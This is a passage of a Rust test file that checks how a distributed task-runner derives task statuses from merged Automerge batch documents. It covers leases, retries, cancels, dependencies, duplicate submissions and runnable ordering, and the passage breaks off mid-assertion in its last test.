//! The status rules of `view.rs`, one by one, through the public API: batch
//! documents built with `doc::create`, facts added with `doc::put_*` and
//! `doc::commit`, read back with `doc::read_header` / `doc::read_tasks`,
//! merged into a `View` and derived with `View::derive(now, Policy)`.

use std::collections::BTreeMap;

use automerge::transaction::Transactable;
use automerge::{AutoCommit, ROOT, ReadDoc};
use bridge_model::doc::{self, BatchHeader};
use bridge_model::facts::fact_key;
use bridge_model::view::Derived;
use bridge_model::{
    Attempt, BatchId, Claim, Command, DocId, Millis, Outcome, Policy, Status, TaskId, TaskSpec,
    View, WriterId,
};

/// A plausible epoch time; every time in these tests is an offset from it.
const T0: Millis = 1_763_000_000_000;

/// The default clock skew margin.
const SKEW: Millis = 30_000;

fn writer(n: u8) -> WriterId {
    WriterId::new(T0 + i64::from(n), [n; 8], [n; 8])
}

fn spec(script: &str) -> TaskSpec {
    TaskSpec {
        name: script.to_owned(),
        command: Command::Shell {
            shell: "sh".into(),
            script: script.into(),
        },
        env: Default::default(),
        inputs: vec![],
        outputs: vec![],
        timeout_s: 60,
        retries: 0,
        runs_on: vec![],
        priority: 0,
        needs: vec![],
        nonce: None,
        network: true,
        allow_read: vec![],
    }
}

/// One batch document and its id.
struct Doc {
    id: DocId,
    am: AutoCommit,
}

/// Submits `specs` as a new one-part batch created at `created_at` by `w`.
fn submit(w: &WriterId, created_at: Millis, rand: u8, specs: &[TaskSpec]) -> Doc {
    let batch = BatchId::new(created_at, [rand; 10]);
    let header = BatchHeader {
        batch: batch.clone(),
        part: 0,
        parts: 1,
        created_at,
        submitted_by: "alice".into(),
        device: "laptop".into(),
        grant: None,
    };
    let am = doc::create(w, &header, specs).expect("create the batch document");
    Doc {
        id: DocId::new(batch, 0),
        am,
    }
}

impl Doc {
    fn as_writer(&mut self, w: &WriterId) -> &mut AutoCommit {
        self.am.set_actor(w.actor());
        &mut self.am
    }

    fn claim(
        &mut self,
        w: &WriterId,
        task: &TaskId,
        n: u64,
        at: Millis,
        lease_until: Millis,
    ) -> Claim {
        let claim = Claim {
            key: fact_key(w, n),
            at,
            lease_until,
            released_at: None,
        };
        self.put_claim(w, task, &claim, at);
        claim
    }

    fn put_claim(&mut self, w: &WriterId, task: &TaskId, claim: &Claim, now: Millis) {
        let am = self.as_writer(w);
        doc::put_claim(am, task, claim).expect("put the claim");
        doc::commit(am, now, "claim");
    }

    fn release(&mut self, w: &WriterId, task: &TaskId, claim: &Claim, at: Millis) {
        let released = Claim {
            released_at: Some(at),
            ..claim.clone()
        };
        self.put_claim(w, task, &released, at);
    }

    fn attempt(
        &mut self,
        w: &WriterId,
        task: &TaskId,
        key: &str,
        started_at: Millis,
        ended_at: Millis,
        outcome: Outcome,
    ) -> Attempt {
        let attempt = Attempt {
            key: key.to_owned(),
            device: format!("device of {}", w.short()),
            started_at,
            ended_at,
            outcome,
            exit_code: match outcome {
                Outcome::Success => Some(0),
                Outcome::Failed => Some(1),
                _ => None,
            },
            signal: None,
            message: None,
            stdout_tail: String::new(),
            stderr_tail: String::new(),
            stdout_blob: None,
            stderr_blob: None,
            outputs: Default::default(),
            provenance: Default::default(),
        };
        let am = self.as_writer(w);
        doc::put_attempt(am, task, &attempt).expect("put the attempt");
        doc::commit(am, ended_at, "attempt");
        attempt
    }

    /// A claim by `w` under key `n`, fulfilled by an attempt ending at `ended_at`.
    fn run(
        &mut self,
        w: &WriterId,
        task: &TaskId,
        n: u64,
        started_at: Millis,
        ended_at: Millis,
        outcome: Outcome,
    ) -> Attempt {
        let claim = self.claim(w, task, n, started_at, started_at + 120_000);
        self.attempt(w, task, &claim.key, started_at, ended_at, outcome)
    }

    fn cancel(&mut self, w: &WriterId, task: &TaskId, at: Millis) {
        let am = self.as_writer(w);
        doc::put_cancel(am, task, w, at).expect("put the cancel");
        doc::commit(am, at, "cancel");
    }

    fn retry(&mut self, w: &WriterId, task: &TaskId, n: u64, at: Millis) {
        let am = self.as_writer(w);
        doc::put_retry(am, task, &fact_key(w, n), at).expect("put the retry grant");
        doc::commit(am, at, "retry");
    }
}

/// The view of `docs`, added in the order given; every document must read
/// without problems.
fn view(docs: &[&Doc]) -> View {
    let mut v = View::new();
    for d in docs {
        let header = doc::read_header(&d.am).expect("read the header");
        assert_eq!(&header.batch, d.id.batch());
        let (records, problems) = doc::read_tasks(&d.am, &doc::TrustAll);
        assert!(problems.is_empty(), "problems in {}: {problems:?}", d.id);
        // Issue 18, item 3: reading the whole document in one pass reads
        // what looking up each task's maps reads, in every test here.
        let keys = records.iter().map(|r| r.id.to_string()).collect();
        let (named, _) = doc::read_named_tasks(&d.am, &doc::TrustAll, &keys);
        assert_eq!(named, records, "one pass and lookups differ in {}", d.id);
        v.add_records(&d.id, &header, records);
    }
    v
}

fn derive(v: &View, id: &TaskId, now: Millis) -> Derived {
    derive_with(v, id, now, Policy::default())
}

fn derive_with(v: &View, id: &TaskId, now: Millis, policy: Policy) -> Derived {
    v.derive(now, policy)
        .remove(id)
        .expect("every task of the view is derived")
}

fn status(v: &View, id: &TaskId, now: Millis) -> Status {
    derive(v, id, now).status
}

// ---------------------------------------------------------------------------
// pending, running, leases

#[test]
fn a_new_task_is_pending_and_runnable() {
    let w = writer(1);
    let s = spec("make");
    let id = s.id();
    let d = submit(&w, T0, 1, &[s]);
    let v = view(&[&d]);
    assert_eq!(v.len(), 1);
    let t = v.get(&id).expect("the task is in the view");
    assert_eq!(t.docs, vec![d.id.clone()]);
    assert_eq!(t.home(), &d.id);
    assert_eq!(t.created_at, T0);
    let got = derive(&v, &id, T0 + 1);
    assert_eq!(got.status, Status::Pending);
    assert_eq!(got.reason, None);
    assert_eq!(got.result, None);
    assert_eq!(got.claim, None);
    assert_eq!(got.failures, (0, 1));
    let derived = v.derive(T0 + 1, Policy::default());
    assert_eq!(v.runnable(&derived, &[]), vec![id]);
}

#[test]
fn a_live_lease_is_running_and_not_runnable() {
    let (submitter, worker) = (writer(1), writer(2));
    let s = spec("make");
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    let claim = d.claim(&worker, &id, 1, T0 + 100, T0 + 60_000);
    let v = view(&[&d]);
    for now in [T0 + 100, T0 + 30_000, T0 + 60_000] {
        let got = derive(&v, &id, now);
        assert_eq!(got.status, Status::Running, "at {now}");
        assert_eq!(got.claim.as_deref(), Some(claim.key.as_str()));
        let derived = v.derive(now, Policy::default());
        assert!(v.runnable(&derived, &[]).is_empty());
    }
}

#[test]
fn an_expired_lease_is_pending_again_after_the_clock_skew_margin() {
    let (submitter, worker) = (writer(1), writer(2));
    let s = spec("make");
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    let lease_until = T0 + 60_000;
    d.claim(&worker, &id, 1, T0 + 100, lease_until);
    let v = view(&[&d]);
    // Past lease_until but within the skew margin: still honoured.
    assert_eq!(status(&v, &id, lease_until + 1), Status::Running);
    assert_eq!(status(&v, &id, lease_until + SKEW), Status::Running);
    // Past lease_until + clock_skew: claimable again.
    assert_eq!(status(&v, &id, lease_until + SKEW + 1), Status::Pending);
    let derived = v.derive(lease_until + SKEW + 1, Policy::default());
    assert_eq!(v.runnable(&derived, &[]), vec![id.clone()]);
    // The margin is the policy's.
    let strict = Policy {
        clock_skew_ms: 0,
        ..Policy::default()
    };
    assert_eq!(
        derive_with(&v, &id, lease_until, strict).status,
        Status::Running
    );
    assert_eq!(
        derive_with(&v, &id, lease_until + 1, strict).status,
        Status::Pending
    );
}

#[test]
fn a_renewed_lease_keeps_the_task_running() {
    let (submitter, worker) = (writer(1), writer(2));
    let s = spec("make");
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    let claim = d.claim(&worker, &id, 1, T0, T0 + 60_000);
    let renewed = Claim {
        lease_until: T0 + 120_000,
        ..claim.clone()
    };
    d.put_claim(&worker, &id, &renewed, T0 + 20_000);
    let v = view(&[&d]);
    let t = v.get(&id).expect("the task is in the view");
    assert_eq!(t.facts.claims.get(&claim.key), Some(&renewed));
    assert_eq!(status(&v, &id, T0 + 60_000 + SKEW + 1), Status::Running);
    assert_eq!(status(&v, &id, T0 + 120_000 + SKEW + 1), Status::Pending);
}

#[test]
fn a_released_claim_is_pending() {
    let (submitter, worker) = (writer(1), writer(2));
    let s = spec("make");
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    let claim = d.claim(&worker, &id, 1, T0, T0 + 60_000);
    assert_eq!(status(&view(&[&d]), &id, T0 + 1), Status::Running);
    d.release(&worker, &id, &claim, T0 + 2);
    let v = view(&[&d]);
    let t = v.get(&id).expect("the task is in the view");
    assert_eq!(t.facts.claims[&claim.key].released_at, Some(T0 + 2));
    let got = derive(&v, &id, T0 + 3);
    assert_eq!(got.status, Status::Pending);
    assert_eq!(got.claim, None);
    assert_eq!(got.failures, (0, 1));
}

#[test]
fn a_view_that_rereads_a_document_sees_a_release_that_shortened_the_lease() {
    // A worker gives a claim up the way `bridge work` does: `lease_until` set
    // back to the release time. A long-lived view that read the claim before
    // and re-reads the document after must agree with a fresh view.
    let (submitter, worker) = (writer(1), writer(2));
    let s = spec("make");
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    let claim = d.claim(&worker, &id, 1, T0, T0 + 600_000);
    let mut long_lived = view(&[&d]);
    assert_eq!(status(&long_lived, &id, T0 + 1), Status::Running);

    let released = Claim {
        lease_until: T0 + 10,
        released_at: Some(T0 + 10),
        ..claim.clone()
    };
    d.put_claim(&worker, &id, &released, T0 + 10);
    let header = doc::read_header(&d.am).expect("header");
    let (records, _) = doc::read_tasks(&d.am, &doc::TrustAll);
    long_lived.add_records(&d.id, &header, records);

    let fresh = view(&[&d]);
    assert_eq!(
        fresh.get(&id).expect("task").facts.claims[&claim.key],
        released
    );
    assert_eq!(
        long_lived.get(&id).expect("task").facts,
        fresh.get(&id).expect("task").facts
    );
    assert_eq!(status(&fresh, &id, T0 + 20), Status::Pending);
    assert_eq!(status(&long_lived, &id, T0 + 20), Status::Pending);
}

#[test]
fn a_view_that_rereads_a_document_sees_a_renewal() {
    let (submitter, worker) = (writer(1), writer(2));
    let s = spec("make");
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    let claim = d.claim(&worker, &id, 1, T0, T0 + 60_000);
    let mut long_lived = view(&[&d]);
    let renewed = Claim {
        lease_until: T0 + 120_000,
        ..claim
    };
    d.put_claim(&worker, &id, &renewed, T0 + 20_000);
    let header = doc::read_header(&d.am).expect("header");
    let (records, _) = doc::read_tasks(&d.am, &doc::TrustAll);
    long_lived.add_records(&d.id, &header, records);
    assert_eq!(
        long_lived.get(&id).expect("task").facts.claims[&renewed.key],
        renewed
    );
    assert_eq!(
        status(&long_lived, &id, T0 + 60_000 + SKEW + 1),
        Status::Running
    );
}

#[test]
fn a_claim_fulfilled_by_an_interrupted_attempt_is_not_live() {
    let (submitter, worker) = (writer(1), writer(2));
    let s = spec("make");
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    d.run(&worker, &id, 1, T0, T0 + 10, Outcome::Interrupted);
    let v = view(&[&d]);
    // The lease is still far away, but the claim has its attempt.
    let got = derive(&v, &id, T0 + 20);
    assert_eq!(got.status, Status::Pending);
    assert_eq!(got.failures, (0, 1));
}

// ---------------------------------------------------------------------------
// failures and retries

#[test]
fn retries_exhausted_is_failed() {
    let (submitter, worker) = (writer(1), writer(2));
    let mut s = spec("flaky");
    s.retries = 2;
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    d.run(&worker, &id, 1, T0, T0 + 10, Outcome::Failed);
    let got = derive(&view(&[&d]), &id, T0 + 11);
    assert_eq!((got.status, got.failures), (Status::Pending, (1, 3)));
    d.run(&worker, &id, 2, T0 + 20, T0 + 30, Outcome::TimedOut);
    let got = derive(&view(&[&d]), &id, T0 + 31);
    assert_eq!((got.status, got.failures), (Status::Pending, (2, 3)));
    d.run(&worker, &id, 3, T0 + 40, T0 + 50, Outcome::Error);
    let v = view(&[&d]);
    let got = derive(&v, &id, T0 + 51);
    assert_eq!((got.status, got.failures), (Status::Failed, (3, 3)));
    assert_eq!(got.result, None);
    assert!(got.status.is_final());
    let derived = v.derive(T0 + 51, Policy::default());
    assert!(v.runnable(&derived, &[]).is_empty());
}

#[test]
fn an_interrupted_attempt_does_not_use_up_a_retry() {
    let (submitter, worker) = (writer(1), writer(2));
    let s = spec("long"); // retries: 0, so one failure is enough
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    for n in 1..=3 {
        let at = T0 + 100 * i64::try_from(n).expect("small");
        d.run(&worker, &id, n, at, at + 10, Outcome::Interrupted);
    }
    let got = derive(&view(&[&d]), &id, T0 + 1_000);
    assert_eq!((got.status, got.failures), (Status::Pending, (0, 1)));
    d.run(&worker, &id, 4, T0 + 2_000, T0 + 2_010, Outcome::Failed);
    let got = derive(&view(&[&d]), &id, T0 + 3_000);
    assert_eq!((got.status, got.failures), (Status::Failed, (1, 1)));
}

#[test]
fn a_retry_grant_reopens_a_failed_task_for_another_round() {
    let (submitter, worker, member) = (writer(1), writer(2), writer(3));
    let mut s = spec("flaky");
    s.retries = 1;
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    d.run(&worker, &id, 1, T0, T0 + 10, Outcome::Failed);
    d.run(&worker, &id, 2, T0 + 20, T0 + 30, Outcome::Failed);
    let got = derive(&view(&[&d]), &id, T0 + 40);
    assert_eq!((got.status, got.failures), (Status::Failed, (2, 2)));

    // A grant allows another full round of 1 + retries attempts.
    d.retry(&member, &id, 1, T0 + 50);
    let v = view(&[&d]);
    assert_eq!(v.get(&id).expect("task").facts.retries.len(), 1);
    let got = derive(&v, &id, T0 + 60);
    assert_eq!((got.status, got.failures), (Status::Pending, (2, 4)));
    d.run(&worker, &id, 3, T0 + 70, T0 + 80, Outcome::Failed);
    let got = derive(&view(&[&d]), &id, T0 + 90);
    assert_eq!((got.status, got.failures), (Status::Pending, (3, 4)));
    d.run(&worker, &id, 4, T0 + 100, T0 + 110, Outcome::TimedOut);
    let got = derive(&view(&[&d]), &id, T0 + 120);
    assert_eq!((got.status, got.failures), (Status::Failed, (4, 4)));

    // A second grant (another key) opens a third round, which can succeed.
    d.retry(&member, &id, 2, T0 + 130);
    let got = derive(&view(&[&d]), &id, T0 + 140);
    assert_eq!((got.status, got.failures), (Status::Pending, (4, 6)));
    let ok = d.run(&worker, &id, 5, T0 + 150, T0 + 160, Outcome::Success);
    let got = derive(&view(&[&d]), &id, T0 + 170);
    assert_eq!(got.status, Status::Done);
    assert_eq!(got.result, Some(ok.key));
}

// ---------------------------------------------------------------------------
// cancel

#[test]
fn cancel_before_finish_is_cancelled() {
    let (submitter, worker, member) = (writer(1), writer(2), writer(3));
    let (a, b, c) = (spec("a"), spec("b"), spec("c"));
    let (ia, ib, ic) = (a.id(), b.id(), c.id());
    let mut d = submit(&submitter, T0, 1, &[a, b, c]);
    // a: pending, then cancelled.
    d.cancel(&member, &ia, T0 + 10);
    // b: running, then cancelled; the success that ends later does not undo it.
    d.claim(&worker, &ib, 1, T0 + 5, T0 + 60_000);
    d.cancel(&member, &ib, T0 + 10);
    d.attempt(
        &worker,
        &ib,
        &fact_key(&worker, 1),
        T0 + 5,
        T0 + 20,
        Outcome::Success,
    );
    // c: failed for good, then cancelled.
    d.run(&worker, &ic, 2, T0, T0 + 5, Outcome::Failed);
    d.cancel(&member, &ic, T0 + 10);
    let v = view(&[&d]);
    for id in [&ia, &ib, &ic] {
        let got = derive(&v, id, T0 + 30);
        assert_eq!(got.status, Status::Cancelled, "{id}");
        assert_eq!(got.result, None);
        assert_eq!(got.claim, None);
    }
    let derived = v.derive(T0 + 30, Policy::default());
    assert!(v.runnable(&derived, &[]).is_empty());
}

#[test]
fn the_earliest_cancel_counts() {
    let (submitter, worker, m1, m2) = (writer(1), writer(2), writer(3), writer(4));
    let s = spec("a");
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    d.cancel(&m1, &id, T0 + 100);
    d.cancel(&m2, &id, T0 + 5);
    d.run(&worker, &id, 1, T0, T0 + 50, Outcome::Success);
    let v = view(&[&d]);
    assert_eq!(v.get(&id).expect("task").facts.cancels.len(), 2);
    assert_eq!(status(&v, &id, T0 + 200), Status::Cancelled);
}

#[test]
fn a_second_cancel_by_the_same_writer_keeps_the_first_time() {
    // Fresh reads, re-reads into a long-lived view and unions across
    // documents must all agree: the earliest cancel of a writer counts.
    let (submitter, worker, member) = (writer(1), writer(2), writer(3));
    let s = spec("a");
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    d.cancel(&member, &id, T0 + 100);
    let mut long_lived = view(&[&d]);
    d.cancel(&member, &id, T0 + 300);
    d.run(&worker, &id, 1, T0, T0 + 200, Outcome::Success);
    let header = doc::read_header(&d.am).expect("header");
    let (records, _) = doc::read_tasks(&d.am, &doc::TrustAll);
    long_lived.add_records(&d.id, &header, records);
    let fresh = view(&[&d]);
    for v in [&fresh, &long_lived] {
        let t = v.get(&id).expect("task");
        assert_eq!(t.facts.cancels[&member.as_str().to_owned()], T0 + 100);
        assert_eq!(status(v, &id, T0 + 400), Status::Cancelled);
    }
}

#[test]
fn cancel_after_finish_is_done() {
    let (submitter, worker, member) = (writer(1), writer(2), writer(3));
    let (a, b) = (spec("a"), spec("b"));
    let (ia, ib) = (a.id(), b.id());
    let mut d = submit(&submitter, T0, 1, &[a, b]);
    let ok_a = d.run(&worker, &ia, 1, T0, T0 + 10, Outcome::Success);
    d.cancel(&member, &ia, T0 + 20);
    // A cancel at the very moment the task ended does not precede it.
    let ok_b = d.run(&worker, &ib, 2, T0, T0 + 10, Outcome::Success);
    d.cancel(&member, &ib, T0 + 10);
    let v = view(&[&d]);
    for (id, ok) in [(&ia, ok_a), (&ib, ok_b)] {
        let got = derive(&v, id, T0 + 30);
        assert_eq!(got.status, Status::Done, "{id}");
        assert_eq!(got.result, Some(ok.key));
    }
}

// ---------------------------------------------------------------------------
// needs

#[test]
fn needs_block_until_the_need_is_done() {
    let (submitter, worker) = (writer(1), writer(2));
    let build = spec("build");
    let mut test = spec("test");
    test.needs = vec![build.id()];
    let (ib, it) = (build.id(), test.id());
    let mut d = submit(&submitter, T0, 1, &[build, test]);

    let v = view(&[&d]);
    let got = derive(&v, &it, T0 + 1);
    assert_eq!(got.status, Status::Blocked);
    let reason = got.reason.expect("a blocked task says why");
    assert!(reason.contains(ib.short()), "{reason}");
    assert!(reason.contains("pending"), "{reason}");
    let derived = v.derive(T0 + 1, Policy::default());
    assert_eq!(v.runnable(&derived, &[]), vec![ib.clone()]);

    // Running: still blocked, and the reason follows.
    d.claim(&worker, &ib, 1, T0 + 2, T0 + 60_000);
    let got = derive(&view(&[&d]), &it, T0 + 3);
    assert_eq!(got.status, Status::Blocked);
    assert!(got.reason.expect("reason").contains("running"));
    // Failed for good: skipped (not work left), and it says why.
    d.attempt(
        &worker,
        &ib,
        &fact_key(&worker, 1),
        T0 + 2,
        T0 + 4,
        Outcome::Failed,
    );
    let got = derive(&view(&[&d]), &it, T0 + 5);
    assert_eq!(got.status, Status::Skipped);
    assert!(got.status.is_final());
    let reason = got.reason.expect("a skipped task says why");
    assert!(
        reason.contains(&format!("{} is failed", ib.short())),
        "{reason}"
    );

    // Retried: blocked again while the need runs, then pending once done.
    d.retry(&submitter, &ib, 1, T0 + 6);
    assert_eq!(derive(&view(&[&d]), &it, T0 + 6).status, Status::Blocked);
    d.run(&worker, &ib, 2, T0 + 7, T0 + 8, Outcome::Success);
    let v = view(&[&d]);
    assert_eq!(status(&v, &ib, T0 + 9), Status::Done);
    let got = derive(&v, &it, T0 + 9);
    assert_eq!((got.status, got.reason), (Status::Pending, None));
    let derived = v.derive(T0 + 9, Policy::default());
    assert_eq!(v.runnable(&derived, &[]), vec![it]);
}

#[test]
fn a_need_not_known_yet_blocks_until_its_document_arrives() {
    let (alice, bob, worker) = (writer(1), writer(2), writer(3));
    let build = spec("build");
    let mut test = spec("test");
    test.needs = vec![build.id()];
    let (ib, it) = (build.id(), test.id());
    let mut d1 = submit(&alice, T0, 1, &[build]);
    let d2 = submit(&bob, T0 + 1, 2, &[test]);

    let v = view(&[&d2]);
    assert!(v.get(&ib).is_none());
    let got = derive(&v, &it, T0 + 2);
    assert_eq!(got.status, Status::Blocked);
    let reason = got.reason.expect("a blocked task says why");
    assert!(reason.contains(ib.short()), "{reason}");
    assert!(reason.contains("not known here yet"), "{reason}");

    // The need arrives, pending: still blocked, for another reason.
    let got = derive(&view(&[&d2, &d1]), &it, T0 + 2);
    assert_eq!(got.status, Status::Blocked);
    assert!(got.reason.expect("reason").contains("pending"));

    // The need is done: pending, whatever order the documents are added in.
    d1.run(&worker, &ib, 1, T0 + 3, T0 + 4, Outcome::Success);
    for v in [view(&[&d2, &d1]), view(&[&d1, &d2])] {
        assert_eq!(status(&v, &ib, T0 + 5), Status::Done);
        let got = derive(&v, &it, T0 + 5);
        assert_eq!((got.status, got.reason), (Status::Pending, None));
    }
}

#[test]
fn a_task_done_or_running_is_not_blocked_by_its_needs() {
    // A task that already has a success (or a live claim) keeps that status even
    // while one of its needs is not done on this replica.
    let (submitter, worker) = (writer(1), writer(2));
    let build = spec("build");
    let mut test = spec("test");
    test.needs = vec![build.id()];
    let mut lint = spec("lint");
    lint.needs = vec![build.id()];
    let (it, il) = (test.id(), lint.id());
    let mut d = submit(&submitter, T0, 1, &[test, lint]);
    let ok = d.run(&worker, &it, 1, T0, T0 + 10, Outcome::Success);
    d.claim(&worker, &il, 2, T0, T0 + 60_000);
    let v = view(&[&d]);
    let got = derive(&v, &it, T0 + 20);
    assert_eq!((got.status, got.result), (Status::Done, Some(ok.key)));
    assert_eq!(status(&v, &il, T0 + 20), Status::Running);
}

// ---------------------------------------------------------------------------
// duplicates and merging

#[test]
fn a_duplicate_submission_is_one_task_with_the_union_of_the_facts() {
    let (alice, bob, w1, w2, m) = (writer(1), writer(2), writer(3), writer(4), writer(5));
    let mut s = spec("make");
    s.retries = 1;
    let id = s.id();
    // The same spec, submitted from two offline devices.
    let mut d1 = submit(&alice, T0 + 1_000, 1, std::slice::from_ref(&s));
    let mut d2 = submit(&bob, T0, 2, std::slice::from_ref(&s));
    let a1 = d1.run(&w1, &id, 1, T0 + 2_000, T0 + 2_100, Outcome::Failed);
    let live = d1.claim(&w1, &id, 2, T0 + 3_000, T0 + 60_000);
    let a2 = d2.run(&w2, &id, 1, T0 + 2_000, T0 + 2_200, Outcome::Error);
    d2.retry(&m, &id, 1, T0 + 2_300);

    for v in [view(&[&d1, &d2]), view(&[&d2, &d1])] {
        assert_eq!(v.len(), 1);
        let t = v.get(&id).expect("one task");
        let mut both = vec![d1.id.clone(), d2.id.clone()];
        both.sort();
        assert_eq!(t.docs, both);
        assert_eq!(t.home(), &both[0]);
        assert_eq!(t.created_at, T0, "the earliest batch");
        assert_eq!(t.facts.attempts.len(), 2);
        assert_eq!(t.facts.attempts.get(&a1.key), Some(&a1));
        assert_eq!(t.facts.attempts.get(&a2.key), Some(&a2));
        assert_eq!(t.facts.claims.len(), 3);
        assert_eq!(t.facts.claims.get(&live.key), Some(&live));
        assert_eq!(t.facts.retries.len(), 1);
        // Two failures of the four allowed (two rounds of two), one live claim.
        let got = derive(&v, &id, T0 + 4_000);
        assert_eq!(got.status, Status::Running);
        assert_eq!(got.failures, (2, 4));
        assert_eq!(got.claim, Some(live.key.clone()));
    }
    // A cancel in either document cancels the one task.
    d2.cancel(&m, &id, T0 + 5_000);
    for v in [view(&[&d1, &d2]), view(&[&d2, &d1])] {
        assert_eq!(v.get(&id).expect("task").facts.cancels.len(), 1);
        assert_eq!(status(&v, &id, T0 + 6_000), Status::Cancelled);
    }
}

#[test]
fn the_canonical_result_is_the_first_success_whatever_the_merge_order() {
    let (alice, bob, carol) = (writer(1), writer(2), writer(3));
    let (w1, w2, w3) = (writer(10), writer(11), writer(12));
    let s = spec("make");
    let id = s.id();
    let mut d1 = submit(&alice, T0, 1, std::slice::from_ref(&s));
    let mut d2 = submit(&bob, T0 + 1, 2, std::slice::from_ref(&s));
    let mut d3 = submit(&carol, T0 + 2, 3, std::slice::from_ref(&s));
    // A late success, and two that end at the same moment: the smaller key wins.
    d1.run(&w1, &id, 1, T0, T0 + 500, Outcome::Success);
    let winner = d3.run(&w2, &id, 1, T0 + 300, T0 + 400, Outcome::Success);
    d2.run(&w3, &id, 1, T0 + 100, T0 + 400, Outcome::Success);
    // A failure that ended first is not a result.
    d2.run(&w1, &id, 2, T0, T0 + 10, Outcome::Failed);
    assert!(winner.key < fact_key(&w3, 1));

    let docs = [&d1, &d2, &d3];
    let orders = [
        [0, 1, 2],
        [0, 2, 1],
        [1, 0, 2],
        [1, 2, 0],
        [2, 0, 1],
        [2, 1, 0],
    ];
    for order in orders {
        let v = view(&order.map(|i| docs[i]));
        let got = derive(&v, &id, T0 + 1_000);
        assert_eq!(got.status, Status::Done, "{order:?}");
        assert_eq!(
            got.result.as_deref(),
            Some(winner.key.as_str()),
            "{order:?}"
        );
        let t = v.get(&id).expect("task");
        assert_eq!(
            bridge_model::view::canonical_result(&t.facts),
            Some(&winner)
        );
    }
}

#[test]
fn claim_lost_picks_the_earliest_live_claim_by_at_then_key() {
    let (submitter, w1, w2, w3) = (writer(1), writer(2), writer(3), writer(4));
    let s = spec("make");
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    let lease = T0 + 60_000;
    // w2 and w3 claim at the same moment; w1 claimed earlier, with a short lease.
    let early = d.claim(&w1, &id, 1, T0 + 5, T0 + 10);
    let c2 = d.claim(&w2, &id, 1, T0 + 20, lease);
    let c3 = d.claim(&w3, &id, 1, T0 + 20, lease);
    assert!(c2.key < c3.key);
    let p = Policy::default();

    // While the early claim is live, it wins.
    let v = view(&[&d]);
    let now = T0 + 20;
    assert!(!v.claim_lost(&id, &early.key, now, p));
    assert!(v.claim_lost(&id, &c2.key, now, p));
    assert!(v.claim_lost(&id, &c3.key, now, p));
    assert_eq!(derive(&v, &id, now).claim, Some(early.key.clone()));

    // Once it has expired, the tie at the same `at` goes to the smaller key.
    let now = T0 + 10 + SKEW + 1;
    assert!(v.claim_lost(&id, &early.key, now, p));
    assert!(!v.claim_lost(&id, &c2.key, now, p));
    assert!(v.claim_lost(&id, &c3.key, now, p));
    assert_eq!(derive(&v, &id, now).claim, Some(c2.key.clone()));

    // The winner releases: the next one wins.
    d.release(&w2, &id, &c2, T0 + 30);
    let v = view(&[&d]);
    let now = T0 + 40;
    assert!(v.claim_lost(&id, &c2.key, now, p));
    assert!(!v.claim_lost(&id, &early.key, now, p));
    let now = T0 + 10 + SKEW + 1;
    assert!(v.claim_lost(&id, &c2.key, now, p));
    assert!(!v.claim_lost(&id, &c3.key, now, p));
    assert_eq!(derive(&v, &id, now).claim, Some(c3.key.clone()));

    // A success: every claim has lost. An unknown task: lost too.
    d.attempt(&w3, &id, &c3.key, T0 + 20, T0 + 50, Outcome::Success);
    let v = view(&[&d]);
    for key in [&early.key, &c2.key, &c3.key] {
        assert!(v.claim_lost(&id, key, T0 + 60, p));
    }
    assert!(v.claim_lost(&spec("other").id(), &c3.key, T0 + 60, p));
}

#[test]
fn a_claim_alone_has_not_lost() {
    let (submitter, w1) = (writer(1), writer(2));
    let s = spec("make");
    let id = s.id();
    let mut d = submit(&submitter, T0, 1, &[s]);
    let c = d.claim(&w1, &id, 1, T0, T0 + 60_000);
    let v = view(&[&d]);
    assert!(!v.claim_lost(&id, &c.key, T0 + 1, Policy::default()));
    // Expired and no other claim: nobody else is working on it.
    assert!(!v.claim_lost(&id, &c.key, T0 + 60_000 + SKEW + 1, Policy::default()));
}

// ---------------------------------------------------------------------------
// runnable

#[test]
fn runnable_is_by_priority_then_age_and_filters_on_labels() {
    let (alice, bob, worker) = (writer(1), writer(2), writer(3));
    let mk = |name: &str, priority: i64, runs_on: &[&str]| {
        let mut s = spec(name);
        s.priority = priority;
        s.runs_on = runs_on.iter().map(|l| (*l).to_owned()).collect();
        s
    };
    let old_low = mk("old-low", 0, &[]);
    let old_high = mk("old-high", 5, &[]);
    let old_gpu = mk("old-gpu", 5, &["gpu"]);
    let both = mk("both", 1, &["gpu", "linux"]);
    let new_high = mk("new-high", 5, &[]);
    let new_mid = mk("new-mid", 3, &[]);
    let new_neg = mk("new-neg", -1, &[]);
    let running = mk("running", 9, &[]);
    let ids: BTreeMap<&str, TaskId> = [
        &old_low, &old_high, &old_gpu, &both, &new_high, &new_mid, &new_neg, &running,
    ]
    .iter()
    .map(|s| (s.name.as_str(), s.id()))
    .collect();
    let d1 = submit(
        &alice,
        T0,
        1,
        &[
            old_low.clone(),
            old_high.clone(),
            old_gpu.clone(),
            both.clone(),
        ],
    );
    let mut d2 = submit(
        &bob,
        T0 + 1_000,
        2,
        &[
            new_neg.clone(),
            new_high.clone(),
            new_mid.clone(),
            running.clone(),
        ],
    );
    d2.claim(&worker, &ids["running"], 1, T0 + 2_000, T0 + 60_000);

    for v in [view(&[&d1, &d2]), view(&[&d2, &d1])] {
        let derived = v.derive(T0 + 3_000, Policy::default());
        let names = |labels: &[&str]| -> Vec<&str> {
            let labels: Vec<String> = labels.iter().map(|l| (*l).to_owned()).collect();
            v.runnable(&derived, &labels)
                .iter()
                .map(|id| {
                    ids.iter()
                        .find(|(_, i)| *i == id)
                        .map(|(n, _)| *n)
                        .expect("a known task")
                })
                .collect()
        };
        assert_eq!(
            names(&[]),
            ["old-high", "new-high", "new-mid", "old-low", "new-neg"]
        );
        // Same priority and batch: by name.
        assert_eq!(
            names(&["gpu"]),
            [
                "old-gpu", "old-high", "new-high", "new-mid", "old-low", "new-neg"
            ]
        );
        assert_eq!(
            names(&["linux", "gpu", "arm"]),
